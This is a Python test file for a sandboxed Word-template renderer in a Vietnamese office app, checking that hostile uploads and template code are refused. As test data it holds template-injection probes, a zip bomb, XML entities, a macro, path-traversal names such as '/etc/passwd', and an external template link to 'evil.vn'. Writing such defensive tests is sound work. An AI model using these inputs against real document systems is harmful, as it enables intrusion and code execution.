"""What an office writes into its own template can print the paper, and nothing else."""

import io
import zipfile

import pytest
from docx import Document

from tasks_app.documents import limited
from tasks_app.documents.fields import as_data
from tasks_app.documents.kinds import KINDS
from tasks_app.documents.layout import spelled
from tasks_app.documents.rendering import Template
from tasks_app.documents.samples import sample
from tests.tasks_app.documents.reading import text_of

KIND = KINDS["ban-cam-ket"]


def template(*paragraphs, code="ban-cam-ket"):
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def repacked(content, changes):
    """The same file with some members replaced or added."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in changes:
                target.writestr(name, source.read(name))
        for name, data in changes.items():
            target.writestr(name, data)
    return made.getvalue()


def filled(*paragraphs, **changes):
    return text_of(Template(template(*paragraphs)).fill(as_data(sample(KIND)) | changes))


def test_an_own_template_prints_the_papers_words():
    own = (
        "{{ dong_chi.ho_ten }}",
        "{%p for moc in cac_moc %}",
        "{{ loop.index }}. {{ moc.ten }}",
        "{%p endfor %}",
    )
    assert limited.check(template(*own), KIND.code) == []
    assert "Nguyễn Văn Bình" in filled(*own) and "2. Hoàn thành nhà ở" in filled(*own)


def test_a_tag_that_word_cut_into_pieces_is_read_as_one():
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("{", "{ dong_", "chi.ho", "_ten }", "}"):
        paragraph.add_run(piece).bold = True
    made = io.BytesIO()
    document.save(made)
    assert limited.check(made.getvalue(), KIND.code) == []
    assert "Nguyễn Văn Bình" in text_of(Template(made.getvalue()).fill(as_data(sample(KIND))))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{ viec.ten_sai }}", "Mẫu dùng dữ liệu không có: «viec.ten_sai»."),
        ("{{ ten_loaii }}", "Mẫu dùng dữ liệu không có: «ten_loaii», có thể là «ten_loai»."),
        ("{{ khong_co }}", "Mẫu dùng dữ liệu không có: «khong_co»."),
        ("{% for m in cac_moc %}{{ m.sai }}{% endfor %}", "Mẫu dùng dữ liệu không có: «m.sai»."),
        (
            "{% for m in ten_loai %}x{% endfor %}",
            "Mẫu dùng dữ liệu không có: «ten_loai (không phải danh sách)».",
        ),
        ("{{ cac_moc.ten }}", "Mẫu dùng dữ liệu không có: «cac_moc.ten»."),
        ("{{ ten_loai.__class__ }}", "Mẫu dùng dữ liệu không có: «ten_loai.__class__»."),
        ("{{ ten_loai.upper() }}", "Mẫu dùng lệnh không được phép: «call»."),
        ("{% include 'x' %}", "Mẫu dùng lệnh không được phép: «include»."),
        ("{% set a = 1 %}", "Mẫu dùng lệnh không được phép: «assign»."),
        ("{{ 'a' * 1000000000 }}", "Mẫu dùng lệnh không được phép: «mul»."),
        ("{{ ten_loai | attr('x') }}", "Mẫu dùng bộ lọc không có: «attr»."),
        ("{% for m in cac_moc %}", "Thẻ trong mẫu viết sai: thiếu {% endfor %} hoặc {% endif %}."),
    ],
)
def test_what_the_data_do_not_hold_or_a_template_may_not_do_is_refused_by_its_name(text, said):
    assert limited.check(template(text), KIND.code) == [said]


def test_all_unknown_names_are_told_at_once():
    found = limited.check(template("{{ mot }} {{ hai.ba }} {{ mot }}"), KIND.code)
    assert found == ["Mẫu dùng dữ liệu không có: «mot».", "Mẫu dùng dữ liệu không có: «hai»."]


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 nothing", b"%PDF-1.4", template()[:2000]])
def test_what_is_no_word_file_is_refused(content):
    assert "không phải văn bản Word" in limited.check(content, KIND.code)[0]


def _lying_about_size(content):
    """The directory says that the document is ten bytes long."""
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/document.xml"))
    return content[: at + 24] + (10).to_bytes(4, "little") + content[at + 28 :]


def _with_a_password_mark(content):
    """Every member says that it is encrypted."""
    marked = bytearray(content)
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(sign)
        while at >= 0:
            marked[at + flags] |= 1
            at = marked.find(sign, at + 4)
    return bytes(marked)


def test_hostile_files_are_refused_or_end_with_the_child():
    good = template("{{ ten_loai }}")
    bomb = repacked(good, {"word/media/a.png": b"\0" * 60_000_000})
    assert "quá nhiều dữ liệu" in limited.check(bomb, KIND.code)[0]
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'
    assert (
        "không phải văn bản Word" in limited.check(repacked(good, {"word/styles.xml": laughs}), KIND.code)[0]
    )
    macro = repacked(good, {"word/vbaProject.bin": b"x"})
    assert "macro" in limited.check(macro, KIND.code)[0]
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.vn/x.dotm" TargetMode="External"/></Relationships>'
    )
    linked = repacked(good, {"word/_rels/settings.xml.rels": outside})
    assert "liên kết ra ngoài" in limited.check(linked, KIND.code)[0]
    for name in ("../../etc/cron.d/x", "/etc/passwd", "word/..\\..\\x.exe"):
        assert "không phải văn bản Word" in limited.check(repacked(good, {name: b"x"}), KIND.code)[0]
    for broken in (_lying_about_size(good), _with_a_password_mark(good)):
        assert "không phải văn bản Word" in limited.check(broken, KIND.code)[0]
    many = repacked(good, {f"word/media/{n}.png": b"x" for n in range(500)})
    assert "quá nhiều dữ liệu" in limited.check(many, KIND.code)[0]


def test_a_template_that_would_run_without_end_ends_with_its_child():
    loops = "".join("{% for m in cac_moc %}" for _ in range(40)) + "x" + "{% endfor %}" * 40
    data = as_data(sample(KIND)) | {"cac_moc": [{"ten": "a"}] * 40}
    with pytest.raises(limited.TemplateFault):
        list(limited.fill(template(loops), [data], layout=None, seconds=1))


def test_data_are_printed_and_never_read_as_tags_or_xml():
    text = filled("{{ giai_phap }}", giai_phap='{{ 7*7 }} <w:p/> & "x" \x0b\x00 dòng 1\ndòng 2')
    assert '{{ 7*7 }} <w:p/> & "x"  dòng 1\ndòng 2' in text


def test_the_child_knows_no_secret(monkeypatch):
    """Its environment holds the path of the code only."""
    seen = {}
    real = limited.subprocess.Popen

    def popen(*args, **options):
        seen.update(options["env"])
        return real(*args, **options)

    monkeypatch.setattr(limited.subprocess, "Popen", popen)
    limited.check(template("x"), KIND.code)
    assert set(seen) == {"PYTHONPATH", "PYTHONUTF8"}


@pytest.mark.parametrize(
    ("new", "old"),
    [
        ("HUYỆN ỦY ĐỊNH HÓA", "HUYỆN UỶ ĐỊNH HOÁ"), ("ủy ban hòa giải", "uỷ ban hoà giải"), ("khỏe, thủy lợi", "khoẻ, thuỷ lợi"),
        ("của quý vị, quả, hoàn thành, toán", "của quý vị, quả, hoàn thành, toán"), ("chùa, mía, Thúy", "chùa, mía, Thuý"),
    ],
)  # fmt: skip
def test_the_tone_mark_stands_where_the_office_writes_it(new, old):
    assert spelled(new, old=True) == old
    assert spelled(old, old=False) == new
    assert spelled(new, old=False) == new
